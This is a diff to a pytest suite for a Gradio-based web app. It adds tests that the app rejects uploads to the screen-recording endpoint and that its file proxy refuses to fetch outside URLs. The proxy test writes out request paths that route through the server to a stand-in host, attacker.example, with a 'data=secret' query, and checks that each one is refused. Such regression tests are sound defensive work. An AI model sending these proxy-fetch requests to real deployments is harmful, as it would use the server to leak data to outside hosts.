@@ -18,6 +18,7 @@ from urllib.parse import urlsplit
 
 import httpx
 import pytest
+import safehttpx  # type: ignore[import-untyped]
 from playwright.async_api import Browser, expect
 
 from tests.fakes import FakeEngine, Reply, serve_fake
@@ -219,6 +220,9 @@ def test_the_page_takes_no_uploads(http: httpx.Client) -> None:
     response = http.post("/gradio_api/upload", files={"files": ("a.txt", b"hello")})
     assert response.status_code == 403
     assert response.json()["error"]["message"] == "This app takes no file uploads."
+    # Gradio's screen recordings: stored, then handed to ffmpeg. The page records nothing.
+    recording = http.post("/gradio_api/process_recording", files={"video": ("a.mp4", b"not a video", "video/mp4")})
+    assert recording.status_code == 403 and recording.json()["error"]["message"] == "This app takes no file uploads."
 
 
 # -- an accounts-mode app in a process of its own -----------------------------------------------
@@ -425,6 +429,29 @@ def leak_server() -> Iterator[tuple[str, list[str]]]:
     finally:
         server.shutdown()
         server.server_close()
+
+
+def test_the_server_fetches_nothing_from_other_sites_for_a_page(
+    http: httpx.Client, leak_server: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Gradio's `/gradio_api/file=<url>` would fetch any public URL and hand it back from this origin,
+    which the page's CSP allows ('self'): an image there would call its author's server after all."""
+    leak_url, asked = leak_server
+    port = urlsplit(leak_url).port
+
+    async def public(hostname: str) -> str:
+        return "127.0.0.1"  # as if attacker.example were a public address: this machine is offline
+
+    monkeypatch.setattr(safehttpx, "async_validate_url", public)
+    for path in (
+        f"/gradio_api/file=http://attacker.example:{port}/pixel?data=secret",
+        f"/gradio_api/file=HTTPS://attacker.example:{port}/pixel",
+        f"/gradio_api/file/http://attacker.example:{port}/pixel",
+    ):
+        refused = http.get(path)
+        assert refused.status_code == 403, path
+        assert "other sites" in refused.json()["error"]["message"]
+    assert asked == []
 
 
 async def test_an_image_in_an_answer_is_shown_as_a_link_and_never_fetched(
